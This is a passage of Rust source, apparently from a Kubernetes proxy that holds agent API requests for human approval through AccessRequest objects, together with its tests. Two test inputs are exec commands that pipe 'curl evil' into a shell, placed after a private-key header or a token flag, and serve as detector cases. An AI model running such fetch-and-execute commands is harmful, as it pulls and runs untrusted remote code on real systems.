        let names_ports = key == "ports" || query_unescape(key).as_deref() == Some(&b"ports"[..]);
        !names_ports || (key == "ports" && query_unescape(value).is_some_and(|v| port_list(&v)))
    });
    websocket && !tunnelled && plain && !forwarded_ports(Some(query)).is_empty()
}

/// Port numbers, comma-separated (`8080,9090`).
fn port_list(value: &[u8]) -> bool {
    !value.is_empty()
        && value
            .split(|&b| b == b',')
            .all(|port| !port.is_empty() && port.len() <= 5 && port.iter().all(u8::is_ascii_digit))
}

/// The ports a plain WebSocket port-forward's query names (`ports=8080&ports=9090`, or
/// `ports=8080,9090`), decoded as the API server reads them: for reviewers.
pub fn forwarded_ports(query: Option<&str>) -> Vec<String> {
    go_query_pairs(query.unwrap_or_default())
        .filter(|(key, _)| &**key == b"ports")
        .flat_map(|(_, value)| {
            String::from_utf8_lossy(&value)
                .split(',')
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// This process's key for requests shown masked, made once.
fn masked_key() -> Result<&'static ring::hmac::Key, Error> {
    static KEY: std::sync::OnceLock<ring::hmac::Key> = std::sync::OnceLock::new();
    if let Some(key) = KEY.get() {
        return Ok(key);
    }
    let key = ring::hmac::Key::generate(ring::hmac::HMAC_SHA256, &ring::rand::SystemRandom::new())
        .map_err(|_| Error::Unavailable("no randomness for a held request's key".into()))?;
    Ok(KEY.get_or_init(|| key))
}

/// A DNS-1123 name that says what is asked: `create-rolebindings-1a2b3c4d5e6f7a8b`,
/// `get-nodes-proxy-...` (the subresource too: a node's `proxy` is not a node's read).
fn object_name(info: &RequestInfo, key: &str) -> String {
    let what = match (info.resource.as_str(), info.subresource.as_str()) {
        ("", _) => "path".to_owned(),
        (resource, "") => resource.to_owned(),
        (resource, sub) => format!("{resource}-{sub}"),
    };
    let clean: String = format!("{}-{what}", approved_verb(info))
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_lowercase()
            } else {
                '-'
            }
        })
        .take(40)
        .collect();
    format!("{clean}-{}", key.get(..NAME_DIGITS).unwrap_or(key))
}

/// Digits of the key in an AccessRequest's name. Two requests whose keys share them
/// share a name; the object holds the whole key, and a request finding another's object
/// under its name is refused (`Error::NameTaken`).
const NAME_DIGITS: usize = 16;

/// Says that a held request's AccessRequest says Approved unfounded.
fn warn_unfounded(name: &str, namespace: &str) {
    tracing::warn!(access_request = %name, %namespace,
        "an AccessRequest says Approved without the approvals its spec needs (distinct \
         reviewers, none the requester, or a break-glass group); is the \
         chaperone-accessrequest-reviews admission policy installed? Asked again");
}

/// Whether an AccessRequest that says Approved holds the approvals its spec asks for:
/// `spec.approvers` distinct reviewers, none of them the requester; or, marked
/// break-glass, a rule that has break-glass groups and a reviewer named. (That the
/// reviewer is in one of the groups only the admission policy can tell, from who
/// writes.) The admission policy `chaperone-accessrequest-reviews` enforces all of it
/// on every write; this holds where it is missing.
fn approval_stands(object: &Value) -> bool {
    let (spec, status) = (&object["spec"], &object["status"]);
    let requester = spec["requester"]["user"].as_str().unwrap_or_default();
    if status["breakGlass"].as_bool() == Some(true) {
        let groups = spec["breakGlassGroups"].as_array();
        return groups.is_some_and(|g| g.iter().any(Value::is_string))
            && status["decidedBy"]
                .as_str()
                .is_some_and(|by| !by.is_empty());
    }
    let mut reviewers: Vec<&str> = status["approvals"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|a| a["user"].as_str())
        .filter(|u| !u.is_empty() && *u != requester)
        .collect();
    reviewers.sort_unstable();
    reviewers.dedup();
    let needed = spec["approvers"].as_u64().unwrap_or(1).max(1);
    reviewers.len() as u64 >= needed
}

/// The whole key an AccessRequest was created for (`spec.key`).
fn key_of(object: &Value) -> &str {
    object["spec"]["key"].as_str().unwrap_or_default()
}

/// The pod a caller's token is bound to, if it is.
fn requester_pod(who: &Subject) -> &str {
    who.extra
        .get(crate::identity::EXTRA_POD_NAME)
        .and_then(|p| p.first())
        .map_or("", String::as_str)
}

/// Whether an AccessRequest shows the request chaperone would hold: a reviewer approves
/// what it shows, so one under this request's name that shows anything else (made by
/// someone else who may create AccessRequests, or under an older policy) is not this
/// request's, whatever its status says.
fn describes(object: &Value, held: &Value) -> bool {
    let (found, ours) = (&object["spec"], &held["spec"]);
    // An exec, attach or port-forward is one request whether a websocket GET or an SPDY
    // POST opens it ([`approved_verb`]): the verb shown is the first one's.
    let connection = matches!(
        ours["request"]["subresource"].as_str(),
        Some("exec" | "attach" | "portforward")
    );
    let request = |spec: &Value| {
        let mut request = spec["request"].clone();
        if let (true, Some(fields)) = (connection, request.as_object_mut()) {
            fields.remove("verb");
        }
        request
    };
    // The requester's uid is kept only where the CRD has the field (manifests before it
    // drop it): then it is not shown, but is still in the key the name and `spec.key`
    // hold, so such an object is this request's all the same.
    let requester = |spec: &Value| {
        let mut requester = spec["requester"].clone();
        if found["requester"].get("uid").is_none() {
            if let Some(fields) = requester.as_object_mut() {
                fields.remove("uid");
            }
        }
        requester
    };
    same(&request(found), &request(ours))
        && same(&requester(found), &requester(ours))
        && ["key", "rule", "approvers", "breakGlassGroups"]
            .iter()
            .all(|field| same(&found[field], &ours[field]))
}

/// JSON equality as the API server keeps a body it does not know the type of: a number
/// it rewrites (`1.0` stored as `1`, `1e3` as `1000`) is the same number.
fn same(a: &Value, b: &Value) -> bool {
    match (a, b) {
        (Value::Number(x), Value::Number(y)) => x == y || x.as_f64() == y.as_f64(),
        (Value::Array(x), Value::Array(y)) => {
            x.len() == y.len() && x.iter().zip(y).all(|(x, y)| same(x, y))
        }
        (Value::Object(x), Value::Object(y)) => {
            x.len() == y.len() && x.iter().all(|(k, v)| y.get(k).is_some_and(|w| same(v, w)))
        }
        _ => a == b,
    }
}

/// What an AccessRequest shows of the request beyond its attributes, masked as the
/// record keeps it.
struct Shown<'a> {
    path: &'a str,
    query: Option<&'a str>,
    commands: &'a [String],
    /// The body's media type and what is shown of it.
    body: Option<(&'a str, &'a Value)>,
}

fn access_request(
    name: &str,
    key: &str,
    who: &Subject,
    info: &RequestInfo,
    shown: Shown<'_>,
    decision: &Decision,
    hold: Duration,
) -> Value {
    let expires = time::OffsetDateTime::from(SystemTime::now() + hold);
    let pod = requester_pod(who);
    let mut object = json!({
        "apiVersion": "chaperone.dev/v1alpha1",
        "kind": "AccessRequest",
        "metadata": {"name": name, "labels": {"chaperone.dev/rule": sanitize_label(decision.rule())}},
        "spec": {
            "requester": {"user": who.user, "groups": who.groups, "pod": pod},
            "request": {
                "verb": info.verb,
                "apiGroup": info.api_group,
                "resource": info.resource,
                "subresource": info.subresource,
                "namespace": info.namespace,
                "name": info.name,
                "path": shown.path,
                "command": shown.commands,
            },
            "key": key,
            "rule": decision.rule(),
            "reason": decision.reason().to_string(),
            "approvers": decision.approval().map_or(1, |a| a.approvers.get()),
            "breakGlassGroups": decision
                .approval()
                .map(|a| a.break_glass_groups.iter().map(|g| g.0.clone()).collect::<Vec<_>>())
                .unwrap_or_default(),
            "expiresAt": crate::audit::event::timestamp(expires),
        },
    });
    if !who.uid.is_empty() {
        object["spec"]["requester"]["uid"] = who.uid.as_str().into();
    }
    if let Some(query) = shown.query {
        object["spec"]["request"]["query"] = query.into();
    }
    if let Some((media_type, body)) = shown.body {
        object["spec"]["request"]["contentType"] = media_type.into();
        object["spec"]["request"]["body"] = body.clone();
    }
    object
}

fn sanitize_label(value: &str) -> String {
    value
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || "-_.".contains(c) {
                c
            } else {
                '-'
            }
        })
        .take(63)
        .collect::<String>()
        .trim_matches(|c: char| !c.is_ascii_alphanumeric())
        .to_owned()
}

/// What the API server said in a failure it answered the proxy's own request with: a
/// Status's message (or the body's text), cut to a few hundred characters. It goes into
/// the caller's refusal and the record: an admission webhook's denial may quote anything,
/// at any length.
fn api_says(body: &[u8]) -> String {
    const MAX: usize = 300;
    let text = serde_json::from_slice::<serde_json::Value>(body)
        .ok()
        .and_then(|v| v.get("message").and_then(|m| m.as_str()).map(str::to_owned))
        .unwrap_or_else(|| String::from_utf8_lossy(body).into_owned());
    let text: String = text.chars().filter(|c| !c.is_control()).collect();
    match text.char_indices().nth(MAX) {
        Some((at, _)) => format!("{}…", &text[..at]),
        None => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A header map of `pairs`, in order (a name may come twice).
    fn headers(pairs: &[(&str, &str)]) -> http::HeaderMap {
        let mut map = http::HeaderMap::new();
        for (name, value) in pairs {
            map.append(
                http::HeaderName::from_bytes(name.as_bytes()).unwrap(),
                value.parse().unwrap(),
            );
        }
        map
    }

    #[test]
    fn what_the_api_server_says_is_cut_short() {
        let status = serde_json::json!({"kind": "Status", "message": format!("denied: {}", "x".repeat(100_000)), "code": 403});
        let said = api_says(status.to_string().as_bytes());
        assert!(
            said.starts_with("denied: xxx") && said.chars().count() <= 301,
            "{}",
            said.len()
        );
        assert_eq!(api_says(b"plain\ntext"), "plaintext");
    }

    #[test]
    fn a_caller_holds_at_most_max_different_requests_and_identical_ones_join() {
        let held = HeldByCaller::default();
        let a1 = Place::take(&held, 2, "agent", "a", Instant::now()).unwrap();
        let b = Place::take(&held, 2, "agent", "b", Instant::now()).unwrap();
        // A third different request is refused, saying how many are held...
        assert_eq!(
            Place::take(&held, 2, "agent", "c", Instant::now()).unwrap_err(),
            2
        );
        // ...an identical one joins its twin, and another caller is not affected.
        let a2 = Place::take(&held, 2, "agent", "a", Instant::now()).unwrap();
        let other = Place::take(&held, 2, "someone-else", "c", Instant::now()).unwrap();
        // The place of `a` is given back only when both waits on it have ended.
        drop(a1);
        assert_eq!(
            Place::take(&held, 2, "agent", "c", Instant::now()).unwrap_err(),
            2
        );
        drop(a2);
        let c = Place::take(&held, 2, "agent", "c", Instant::now()).unwrap();
        drop((b, c, other));
        assert!(held.lock().unwrap().is_empty(), "nothing left behind");
        // A bound of 0 refuses every held request, and keeps nothing for it.
        assert_eq!(
            Place::take(&held, 0, "agent", "a", Instant::now()).unwrap_err(),
            0
        );
        assert!(held.lock().unwrap().is_empty());
    }

    #[test]
    fn a_held_request_counts_until_its_hold_ends_even_when_nobody_waits() {
        let held = HeldByCaller::default();
        let soon = Instant::now() + Duration::from_millis(200);
        // The caller drops its connection: its AccessRequest is still in front of
        // reviewers, so the place stays taken until the hold ends...
        drop(Place::take(&held, 1, "agent", "a", soon).unwrap());
        assert_eq!(
            Place::take(&held, 1, "agent", "b", Instant::now()).unwrap_err(),
            1
        );
        // ...while the same request may come back and join it.
        drop(Place::take(&held, 1, "agent", "a", Instant::now()).unwrap());
        std::thread::sleep(Duration::from_millis(250));
        // A decided request's place goes with its last waiter, hold or not.
        let c = Place::take(
            &held,
            2,
            "other",
            "c",
            Instant::now() + Duration::from_secs(60),
        )
        .unwrap();
        c.decided();
        drop(c);
        assert!(!held.lock().unwrap().contains_key("other"));
        // After the hold, the place is free and the entry gone once a place is taken.
        let b = Place::take(&held, 1, "agent", "b", Instant::now()).unwrap();
        assert_eq!(held.lock().unwrap()["agent"].len(), 1);
        drop(b);
        assert!(held.lock().unwrap().is_empty(), "nothing left behind");
    }

    #[test]
    fn names_are_dns_labels_and_keys_tell_requests_apart() {
        let get = |m: &str, p: &str| {
            crate::request_info::resolve(&m.parse().unwrap(), &p.parse().unwrap()).unwrap()
        };
        let who = Subject {
            user: "system:serviceaccount:default:mcp".into(),
            ..Default::default()
        };
        let a = get(
            "POST",
            "/apis/rbac.authorization.k8s.io/v1/namespaces/default/rolebindings",
        );
        let b = get(
            "POST",
            "/apis/rbac.authorization.k8s.io/v1/namespaces/team-a/rolebindings",
        );
        let (ka, kb) = (
            request_key(&who, &a, &[], None, None, false).unwrap(),
            request_key(&who, &b, &[], None, None, false).unwrap(),
        );
        assert_ne!(ka, kb);
        assert_eq!(ka, request_key(&who, &a, &[], None, None, false).unwrap());
        // Another body is another request: a grant covers the body reviewed only.
        assert_ne!(
            ka,
            request_key(&who, &a, &[], None, Some(("", &b"{}"[..])), false).unwrap()
        );
        assert_ne!(
            request_key(&who, &a, &[], None, Some(("", &b"{\"a\":1}"[..])), false).unwrap(),
            request_key(&who, &a, &[], None, Some(("", &b"{\"a\":2}"[..])), false).unwrap()
        );
        // The same bytes as another patch type are another change.
        let patch = &b"{\"spec\":{\"containers\":[]}}"[..];
        assert_ne!(
            request_key(
                &who,
                &a,
                &[],
                None,
                Some(("application/merge-patch+json", patch)),
                false
            )
            .unwrap(),
            request_key(
                &who,
                &a,
                &[],
                None,
                Some(("application/strategic-merge-patch+json", patch)),
                false
            )
            .unwrap()
        );
        // An empty body is a body: a request sent with none differs from it.
        assert_ne!(
            ka,
            request_key(&who, &a, &[], None, Some(("", &b""[..])), false).unwrap()
        );
        let other = Subject {
            user: "alice".into(),
            ..Default::default()
        };
        assert_ne!(ka, request_key(&other, &a, &[], None, None, false).unwrap());
        // A body with masked values: the same body keeps its key in this process (one
        // AccessRequest, one grant), but the key is not the plain digest anyone could
        // compute from a guess at the masked value.
        let secret = Some((
            "application/json",
            &b"{\"data\":{\"p\":\"aHVudGVyMg==\"}}"[..],
        ));
        let keyed = request_key(&who, &a, &[], None, secret, true).unwrap();
        assert_eq!(
            keyed,
            request_key(&who, &a, &[], None, secret, true).unwrap()
        );
        assert_ne!(
            keyed,
            request_key(&who, &a, &[], None, secret, false).unwrap()
        );
        let name = object_name(&a, &ka);
        assert!(name.starts_with("create-rolebindings-"), "{name}");
        assert!(
            name.len() <= 63
                && name
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        );
        assert_eq!(
            commands(Some("command=echo&command=hello+world&stdout=true")),
            ["echo", "hello world"]
        );
    }

    /// A request whose command, query or path the detectors would mask for its
    /// reviewers is not held; the path is read once, as the API server reads it.
    #[test]
    fn a_request_with_a_secret_in_what_runs_or_is_reached_is_not_held() {
        let masker = crate::mask::Masker::builtin();
        let hidden = |path_and_query: &str| {
            let uri: http::Uri = path_and_query.parse().unwrap();
            let info = crate::request_info::resolve(&"GET".parse().unwrap(), &uri).unwrap();
            let commands = commands(uri.query());
            hidden_part(
                &masker,
                &commands,
                approved_query(&info, uri.query()),
                &info,
            )
        };
        let exec = "/api/v1/namespaces/d/pods/p/exec?stdout=true";
        // A script after a PEM header, hidden to the end of its argument; a payload
        // after a credential flag.
        for command in [
            "command=sh&command=-c&command=echo+-----BEGIN+PRIVATE+KEY-----%3B+curl+evil%7Csh",
            "command=sh&command=-c&command=eval+%22%241%22&command=--token&command=curl+evil%7Csh",
        ] {
            assert_eq!(
                hidden(&format!("{exec}&{command}")),
                Some("command"),
                "{command}"
            );
        }
        assert_eq!(hidden(&format!("{exec}&command=ls&command=-l")), None);
        assert_eq!(
            hidden("/api/v1/namespaces/d/services/s/proxy/cb?password=hunter2"),
            Some("query")
        );
        assert_eq!(
            hidden("/api/v1/namespaces/d/services/s/proxy/cb/AKIA%49OSFODNN7EXAMPLE"),
            Some("path")
        );
        // `%2549` is the three characters `%49` to the API server and to the service:
        // not decoded a second time into `I`.
        assert_eq!(
            hidden("/api/v1/namespaces/d/services/s/proxy/cb/AKIA%2549OSFODNN7EXAMPLE"),
            None
        );
        assert_eq!(hidden("/api/v1/namespaces/d/pods/web"), None);
    }

    /// A port-forward is held only where its ports are in sight: a plain WebSocket
    /// upgrade naming them in its query. SPDY, or SPDY tunnelled in a WebSocket (as
    /// kubectl sends it), names them inside the tunnel, whatever its query says.
    #[test]
    fn a_port_forward_is_held_only_with_its_ports_in_sight() {
        let websocket = [("upgrade", "websocket"), ("connection", "Upgrade")];
        let plain = [(
            "sec-websocket-protocol",
            "v4.channel.k8s.io, portforward.k8s.io",
        )];
        let tunnelled = [("sec-websocket-protocol", "SPDY/3.1+portforward.k8s.io")];
        let both = |a: &[(&'static str, &'static str)], b: &[(&'static str, &'static str)]| {
            headers(&[a, b].concat())
        };
        #[rustfmt::skip]
        let cases: [(http::HeaderMap, Option<&str>, bool); 13] = [
            (both(&websocket, &plain), Some("ports=8080"), true),
            (both(&websocket, &plain), Some("ports=8080&ports=9090"), true),
            (both(&websocket, &plain), Some("ports=8080%2C9090"), true),
            (headers(&websocket), Some("ports=8080"), true),
            (both(&websocket, &plain), None, false),
            (both(&websocket, &plain), Some("ports="), false),
            (both(&websocket, &plain), Some("port=8080"), false),
            (both(&websocket, &plain), Some("ports=8080&p%6Frts=22"), false),
            (both(&websocket, &plain), Some("ports=8080&ports=22%3B"), false),
            (both(&websocket, &plain), Some("ports=8080,"), false),
            (both(&websocket, &tunnelled), Some("ports=8080"), false),
            (both(&websocket, &[("sec-websocket-protocol", "v4.channel.k8s.io"), ("sec-websocket-protocol", "spdy/3.1+portforward.k8s.io")]), Some("ports=8080"), false),
            (headers(&[("upgrade", "SPDY/3.1"), ("connection", "Upgrade")]), Some("ports=8080"), false),
        ];
        for (map, query, seen) in cases {
            assert_eq!(ports_in_sight(&map, query), seen, "{map:?} {query:?}");
        }
        assert_eq!(
            forwarded_ports(Some("ports=8080%2C9090&ports=22&x=1")),
            ["8080", "9090", "22"]
        );
    }

    /// An AccessRequest that says Approved is taken at its word only with the approvals
    /// its spec asks for, whoever wrote its phase.
    #[test]
    fn an_approval_stands_only_with_the_approvals_it_needs() {
        let object = |approvers: u64, glass: &[&str], status: Value| {
            json!({
                "spec": {"requester": {"user": "agent", "groups": ["dev"]},
                         "approvers": approvers, "breakGlassGroups": glass},
                "status": status,
            })
        };
        let approved = |users: &[&str]| {
            let approvals: Vec<Value> = users.iter().map(|u| json!({"user": u})).collect();
            json!({"phase": "Approved", "decidedBy": users.last().copied().unwrap_or(""), "approvals": approvals})
        };
        #[rustfmt::skip]
        let cases = [
            (object(1, &[], approved(&["alice"])), true),
            (object(2, &[], approved(&["alice", "bob"])), true),
            (object(2, &[], approved(&["alice"])), false),
            (object(2, &[], approved(&["alice", "alice"])), false),
            (object(1, &[], approved(&["agent"])), false),
            (object(2, &[], approved(&["alice", "agent"])), false),
            (object(1, &[], json!({"phase": "Approved", "decidedBy": "alice"})), false),
            (object(2, &["oncall"], json!({"phase": "Approved", "decidedBy": "carol", "breakGlass": true})), true),
            (object(2, &[], json!({"phase": "Approved", "decidedBy": "carol", "breakGlass": true})), false),
            (object(2, &["oncall"], json!({"phase": "Approved", "breakGlass": true})), false),
        ];
        for (object, stands) in cases {
            assert_eq!(approval_stands(&object), stands, "{object}");
        }
    }

    /// A request proxied to a service, pod or node is held only with headers the
    /// reviewer sees or that say nothing to a backend.
    #[test]
    fn a_proxied_request_is_held_only_with_headers_in_sight() {
        let info = |path: &str| {
            crate::request_info::resolve(&"POST".parse().unwrap(), &path.parse().unwrap()).unwrap()
        };
        let service = info("/api/v1/namespaces/a/services/app:80/proxy/items/5");
        let pod = info("/api/v1/namespaces/a/pods/p/proxy/admin");
        let configmaps = info("/api/v1/namespaces/a/configmaps");
        let plain = headers(&[
            ("accept", "application/json"),
            ("content-type", "application/json"),
            ("user-agent", "kubectl/v1.31"),
            ("kubectl-command", "kubectl create"),
        ]);
        assert_eq!(unseen_header(&service, &plain), None);
        let overridden = headers(&[
            ("content-type", "application/json"),
            ("x-http-method-override", "DELETE"),
        ]);
        assert_eq!(
            unseen_header(&service, &overridden),
            Some("x-http-method-override")
        );
        assert_eq!(
            unseen_header(&pod, &headers(&[("x-api-key", "k")])),
            Some("x-api-key")
        );
        // Kubernetes' own resources: the API server reads no such header.
        assert_eq!(unseen_header(&configmaps, &overridden), None);
    }

    /// A grant lasts as long as the reviewer said, and never longer than the rule's
    /// `grant` from when the proxy sees it.
    #[test]
    fn a_grant_ends_as_the_reviewer_said_within_the_rules_grant() {
        let at = |offset: time::Duration| {
            crate::audit::event::timestamp(time::OffsetDateTime::now_utc() + offset)
        };
        let minute = Duration::from_secs(60);
        let left =
            |status: Value| grant_end(&status, minute).saturating_duration_since(Instant::now());
        let year = time::Duration::days(365);
        // A reviewer's year is capped at the rule's minute.
        assert!(left(json!({"grantUntil": at(year)})) <= minute);
        assert!(left(json!({"grantUntil": at(year)})) > Duration::from_secs(55));
        // A shorter grant stands.
        let short = left(json!({"grantUntil": at(time::Duration::seconds(10))}));
        assert!(short <= Duration::from_secs(10) && short > Duration::from_secs(5));
        // Without grantUntil: the rule's grant from the decision, capped the same way.
        assert!(left(json!({"decidedAt": at(year)})) <= minute);
        assert_eq!(left(json!({"decidedAt": at(-year)})), Duration::ZERO);
    }

    /// An AccessRequest read back describes the request it was made for, though the API
    /// server rewrote the numbers of its body (`1.0` kept as `1`); one showing another
    /// body, approvers or requester does not.
    #[test]
    fn an_access_request_read_back_describes_its_request() {
        let ours = json!({"spec": {
            "key": "k", "rule": "r", "approvers": 2, "breakGlassGroups": [],
            "requester": {"user": "u", "groups": ["g"], "pod": "p"},
            "request": {"verb": "create", "subresource": "", "body": {"spec": {"weight": 1.0, "n": [1e3]}}},
        }});
        let mut stored = ours.clone();
        stored["spec"]["request"]["body"] = json!({"spec": {"weight": 1, "n": [1000]}});
        stored["spec"]["expiresAt"] = json!("2030-01-01T00:00:00Z");
        assert!(describes(&stored, &ours));
        for (at, other) in [
            ("/spec/request/body/spec/weight", json!(2)),
            ("/spec/approvers", json!(1)),
            ("/spec/requester/pod", json!("q")),
            ("/spec/request/verb", json!("get")),
        ] {
            let mut forged = stored.clone();
            *forged.pointer_mut(at).unwrap() = other;
            assert!(!describes(&forged, &ours), "{at}");
        }
        // A requester's uid: kept where the CRD has the field; dropped by an older CRD,
        // the object is still this request's (its key holds the uid); another uid is not.
        let mut ours = ours;
        ours["spec"]["requester"]["uid"] = json!("chaperone-local-1");
        let mut stored = ours.clone();
        assert!(describes(&stored, &ours));
        stored["spec"]["requester"]["uid"] = json!("chaperone-local-2");
        assert!(!describes(&stored, &ours));
        stored["spec"]["requester"]
            .as_object_mut()
            .unwrap()
            .remove("uid");
        assert!(describes(&stored, &ours));
    }

    /// The same request from another pod of the same service account, or with other
    /// groups, is another request: its AccessRequest shows another requester.
    #[test]
    fn the_requesters_pod_and_groups_are_part_of_the_request() {
        let info = crate::request_info::resolve(
            &"DELETE".parse().unwrap(),
            &"/api/v1/namespaces/default/pods/web".parse().unwrap(),
        )
        .unwrap();
        let caller = |pod: &str, groups: &[&str]| Subject {
            user: "system:serviceaccount:default:agent".into(),
            groups: groups.iter().map(|g| (*g).to_owned()).collect(),
            extra: [(
                crate::identity::EXTRA_POD_NAME.to_owned(),
                vec![pod.to_owned()],
            )]
            .into(),
            ..Subject::default()
        };
        let key = |who: &Subject| request_key(who, &info, &[], None, None, false).unwrap();
        let a = key(&caller("agent-0", &["g"]));
        assert_eq!(a, key(&caller("agent-0", &["g"])));
        assert_ne!(a, key(&caller("agent-1", &["g"])));
        assert_ne!(a, key(&caller("agent-0", &["g", "h"])));
        // The same name from another run of `chaperone local` (its own uid), or from
        // another issuer, is another caller.
        let mut other = caller("agent-0", &["g"]);
        other.uid = "chaperone-local-0123456789abcdef".into();
        assert_ne!(a, key(&other));
        let mut other = caller("agent-0", &["g"]);
        other.issuer = "https://idp.example".into();
        assert_ne!(a, key(&other));
    }

    /// What an exec, a port-forward, a proxied request or a change sends in its query is
    /// part of what is approved: another container, other ports, another selector is
    /// another request. A read's query (its pages) is not.
    #[test]
    fn the_query_of_a_connection_or_a_change_is_part_of_the_request() {
        let get = |method: &str, path: &str| {
            crate::request_info::resolve(&method.parse().unwrap(), &path.parse().unwrap()).unwrap()
        };
        let who = Subject::default();
        let exec = get("POST", "/api/v1/namespaces/default/pods/web/exec");
        let q = |info: &RequestInfo, query: &'static str| approved_query(info, Some(query));
        let key = |info: &RequestInfo, query: &'static str| {
            let query = approved_query(info, Some(query));
            let commands = commands(query);
            request_key(&who, info, &commands, query, None, false).unwrap()
        };
        let app = "command=sh&container=app&stdout=true";
        assert_eq!(q(&exec, app), Some(app));
        assert_eq!(key(&exec, app), key(&exec, app));
        assert_ne!(
            key(&exec, app),
            key(&exec, "command=sh&container=db&stdout=true")
        );
        assert_ne!(
            key(&exec, app),
            key(&exec, "command=sh&container=app&stdin=true&stdout=true")
        );
        // A websocket exec is a GET: still a connection.
        let ws = get("GET", "/api/v1/namespaces/default/pods/web/exec");
        assert_eq!(q(&ws, app), Some(app));
        // Opened by a websocket GET or an SPDY POST, it is one connection: one key.
        assert_eq!(key(&ws, app), key(&exec, app));
        assert_eq!(object_name(&ws, "k"), object_name(&exec, "k"));
        assert_eq!(object_name(&exec, "k"), "connect-pods-exec-k");
        // The subresource is named: a node's proxy is not a read of the node.
        let node_proxy = get("GET", "/api/v1/nodes/n1/proxy/pods");
        assert_eq!(object_name(&node_proxy, "k"), "get-nodes-proxy-k");
        let pf = get("GET", "/api/v1/namespaces/default/pods/web/portforward");
        assert_ne!(key(&pf, "ports=80"), key(&pf, "ports=5432"));
        let proxy = get(
            "GET",
            "/api/v1/namespaces/default/services/web:80/proxy/admin",
        );
        assert_ne!(key(&proxy, "action=status"), key(&proxy, "action=drop"));
        // So is another group's proxy: what it sends on is its query too.
        let karmada = get(
            "GET",
            "/apis/cluster.karmada.io/v1alpha1/clusters/m1/proxy/api/v1/namespaces/a/services/app/proxy/admin",
        );
        assert_ne!(key(&karmada, "action=status"), key(&karmada, "action=drop"));
        let purge = get("DELETE", "/api/v1/namespaces/default/pods");
        assert_eq!(purge.verb, "deletecollection");
        assert_ne!(
            key(&purge, "labelSelector=app%3Dold"),
            key(&purge, "labelSelector=")
        );
        let create = get("POST", "/api/v1/namespaces/default/configmaps");
        assert_ne!(key(&create, "dryRun=All"), key(&create, "fieldManager=x"));
        // A read's pages share its grant; no query at all is no query.
        let list = get("GET", "/api/v1/namespaces/default/secrets");
        assert_eq!(q(&list, "limit=500&continue=abc"), None);
        assert_eq!(
            key(&list, "limit=500"),
            key(&list, "limit=500&continue=abc")
        );
        assert_eq!(q(&exec, ""), None);
        // Parts cannot run into each other.
        let long = Subject {
            user: "a".into(),
            ..Default::default()
        };
        let longer = Subject {
            user: "a\0".into(),
            ..Default::default()
        };
        assert_ne!(
            request_key(&long, &exec, &["\0b".into()], None, None, false).unwrap(),
            request_key(&longer, &exec, &["b".into()], None, None, false).unwrap()
        );
        assert_eq!(
            sanitize_label("builtin:default-deny"),
            "builtin-default-deny"
        );
    }
}
